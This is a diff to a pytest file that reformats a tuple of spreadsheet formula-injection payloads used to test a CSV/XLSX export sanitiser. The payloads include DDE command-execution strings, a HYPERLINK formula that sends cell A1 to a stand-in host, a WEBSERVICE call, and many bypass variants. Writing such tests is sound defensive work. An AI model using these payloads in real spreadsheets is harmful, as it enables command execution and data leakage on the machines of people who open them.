@@ -11,9 +11,11 @@ import pytest
 from shared.documents.sheet_files import FORMULA_STARTS, Sheet, as_csv, as_xlsx, is_like_a_formula
 
 PAYLOADS = (
-    "=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"点这里")', "=IMPORTXML(A1)", "=DDE(\"cmd\",\"/c\",\"x\")",
-    "+1+1", "+cmd|' /C notepad'!'A1'", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1,1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1",
-    " =1+1", "  =1+1", "\u3000=1+1", "\xa0=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\t＝1+1", "=A1&\"\n\"",
+    "=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"点这里")', "=IMPORTXML(A1)",
+    "=DDE(\"cmd\",\"/c\",\"x\")", "+1+1", "+cmd|' /C notepad'!'A1'", "-1+1", "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1,1)", "@A1", "\t=1+1", "\r=1+1",
+    "\n=1+1", " =1+1", "  =1+1", "\u3000=1+1", "\xa0=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
+    "\t＝1+1", "=A1&\"\n\"",
     '"=1+1', "'=1+1", "=1+1,=2+2", "x\n=1+1", "=1;=2", "=\u202e1+1", "==1", "=-1", "+-1", "@-1", "-@1",
     "=SUM(A1:A9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x.example\")", "-", "=",
 )  # fmt: skip
